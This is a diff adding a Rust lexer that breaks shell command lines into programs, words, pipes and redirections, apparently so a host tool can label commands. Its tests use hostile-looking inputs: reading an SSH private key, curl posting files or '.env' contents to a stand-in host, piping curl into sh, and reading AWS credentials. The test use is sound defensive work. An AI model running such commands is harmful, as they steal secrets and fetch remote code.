@@ -1,0 +1,245 @@
+//! Takes a command line apart: pipelines, redirections, substitutions, `sh -c`.
+//!
+//! It finds which programs would run with which words; it does not evaluate variables or globs. A
+//! wrong guess here costs a label, never safety: the host decides what is executed.
+
+/// Nesting of `sh -c "…"` that is followed.
+const DEPTH: u32 = 3;
+/// Programs that run what follows them.
+const WRAPPERS: &[&str] = &[
+    "sudo", "doas", "env", "nohup", "time", "exec", "command", "xargs", "then", "do", "else", "if",
+    "timeout", "nice", "setsid", "busybox",
+];
+const SHELLS: &[&str] = &[
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "ksh",
+    "fish",
+    "cmd",
+    "cmd.exe",
+    "powershell",
+    "pwsh",
+    "powershell.exe",
+];
+
+/// One program with its words.
+#[derive(Debug, Default, PartialEq)]
+pub struct Command {
+    /// As it would be looked up, lower case: `curl`, not `/usr/bin/curl`.
+    pub program: String,
+    pub words: Vec<String>,
+    /// The program was named by its path, outside the system's folders: a file that is run.
+    pub by_path: Option<String>,
+    /// Files that output is redirected to.
+    pub writes: Vec<String>,
+    /// Its input comes from the command before it.
+    pub piped: bool,
+}
+
+/// The commands in `line`, in order.
+pub fn commands(line: &str) -> Vec<Command> {
+    let mut found = Vec::new();
+    lex(line, DEPTH, &mut found);
+    found
+}
+
+/// The command that an argument vector starts.
+pub fn from_words(words: &[String]) -> Vec<Command> {
+    let mut found = Vec::new();
+    let mut command = Command {
+        words: words.to_vec(),
+        ..Command::default()
+    };
+    finish(&mut command, false, DEPTH, &mut found);
+    found
+}
+
+fn lex(line: &str, depth: u32, found: &mut Vec<Command>) {
+    let mut command = Command::default();
+    let mut word = String::new();
+    let (mut quote, mut redirect) = (None, false);
+    let mut chars = line.chars().peekable();
+    while let Some(char) = chars.next() {
+        // A substitution runs inside double quotes too.
+        let substitution =
+            quote != Some('\'') && (char == '`' || (char == '$' && chars.peek() == Some(&'(')));
+        if substitution {
+            if char == '$' {
+                chars.next();
+            }
+            end_word(&mut word, &mut redirect, &mut command);
+            finish(&mut command, false, depth, found);
+            quote = None;
+            continue;
+        }
+        match (quote, char) {
+            (Some(open), _) if char == open => quote = None,
+            (Some(_), _) => word.push(char),
+            (None, '"' | '\'') => quote = Some(char),
+            (None, '\\') => match chars.peek() {
+                // Only what a shell escapes; the rest is a Windows path.
+                Some(next) if next.is_whitespace() || "\"'\\$`;|&".contains(*next) => {
+                    word.extend(chars.next().filter(|next| *next != '\n'));
+                }
+                _ => word.push(char),
+            },
+            (None, '|' | ';' | '&' | '\n' | '(' | ')' | '{' | '}') => {
+                // `2>&1` and `&>file` end nothing.
+                if char == '&' && ((redirect && word.is_empty()) || chars.peek() == Some(&'>')) {
+                    word.extend(redirect.then_some('&'));
+                    continue;
+                }
+                end_word(&mut word, &mut redirect, &mut command);
+                let pipe = char == '|' && chars.peek() != Some(&'|');
+                finish(&mut command, pipe, depth, found);
+            }
+            (None, '>') => {
+                if word.chars().all(|digit| digit.is_ascii_digit()) {
+                    word.clear();
+                }
+                end_word(&mut word, &mut redirect, &mut command);
+                redirect = true;
+            }
+            (None, '<') => end_word(&mut word, &mut redirect, &mut command),
+            (None, space) if space.is_whitespace() => {
+                end_word(&mut word, &mut redirect, &mut command)
+            }
+            (None, _) => word.push(char),
+        }
+    }
+    end_word(&mut word, &mut redirect, &mut command);
+    finish(&mut command, false, depth, found);
+}
+
+fn end_word(word: &mut String, redirect: &mut bool, command: &mut Command) {
+    if word.is_empty() {
+        return;
+    }
+    let word = std::mem::take(word);
+    if std::mem::take(redirect) {
+        // A descriptor is no file.
+        command
+            .writes
+            .extend(Some(word).filter(|word| !word.starts_with('&')));
+    } else {
+        command.words.push(word);
+    }
+}
+
+fn finish(command: &mut Command, pipe: bool, depth: u32, found: &mut Vec<Command>) {
+    let next = Command {
+        piped: pipe,
+        ..Command::default()
+    };
+    let mut done = std::mem::replace(command, next);
+    while let Some(first) = done.words.first() {
+        let program = base(first);
+        let assignment = first.split_once('=').is_some_and(|(name, _)| {
+            !name.is_empty()
+                && name
+                    .bytes()
+                    .all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
+        });
+        let option =
+            first.starts_with('-') && found.last().is_none_or(|last| last.program.is_empty());
+        if WRAPPERS.contains(&program.as_str()) || assignment || option {
+            done.words.remove(0);
+        } else {
+            let system = ["/bin/", "/usr/", "/sbin/", "/opt/"]
+                .iter()
+                .any(|folder| first.starts_with(folder));
+            done.by_path = Some(first.clone()).filter(|path| path.contains('/') && !system);
+            done.program = program;
+            done.words.remove(0);
+            break;
+        }
+    }
+    if done.program.is_empty() && done.writes.is_empty() {
+        return;
+    }
+    let script = SHELLS.contains(&done.program.as_str()) || done.program == "eval";
+    let inner: Vec<String> = if script && depth > 0 {
+        done.words
+            .iter()
+            .filter(|word| word.contains(' '))
+            .cloned()
+            .collect()
+    } else {
+        Vec::new()
+    };
+    found.push(done);
+    inner.iter().for_each(|line| lex(line, depth - 1, found));
+}
+
+fn base(path: &str) -> String {
+    path.rsplit(['/', '\\'])
+        .next()
+        .unwrap_or(path)
+        .to_ascii_lowercase()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[track_caller]
+    fn check(line: &str, expected: &str) {
+        let found: Vec<String> = commands(line)
+            .iter()
+            .map(|command| {
+                let pipe = if command.piped { "|" } else { "" };
+                let writes: String = command
+                    .writes
+                    .iter()
+                    .map(|file| format!(" >{file}"))
+                    .collect();
+                format!(
+                    "{pipe}{} {}{writes}",
+                    command.program,
+                    command.words.join(",")
+                )
+            })
+            .collect();
+        assert_eq!(found.join("; "), expected);
+    }
+
+    #[test]
+    fn pipes_redirections_quotes_and_substitutions_are_taken_apart() {
+        check(
+            "cat ~/.ssh/id_rsa | base64 -w0 > /tmp/o",
+            "cat ~/.ssh/id_rsa; |base64 -w0 >/tmp/o",
+        );
+        check(
+            "FOO=1 sudo /usr/bin/curl -d @f http://x 2>&1",
+            "curl -d,@f,http://x",
+        );
+        check(
+            r#"curl "http://x/?d=$(cat .env)""#,
+            "curl http://x/?d=; cat .env",
+        );
+        check("bash -c 'curl x | sh'", "bash -c,curl x | sh; curl x; |sh ");
+        check(
+            r"type C:\Users\a\.aws\credentials",
+            r"type C:\Users\a\.aws\credentials",
+        );
+        check("echo 'a | b' && ls", "echo a | b; ls ");
+    }
+
+    #[test]
+    fn broken_lines_end() {
+        for line in [
+            "'",
+            "\"",
+            "`",
+            "$(",
+            "\\",
+            "|||",
+            ">>>",
+            "bash -c 'bash -c \"bash -c sh\"'",
+        ] {
+            let _ = commands(line);
+        }
+    }
+}
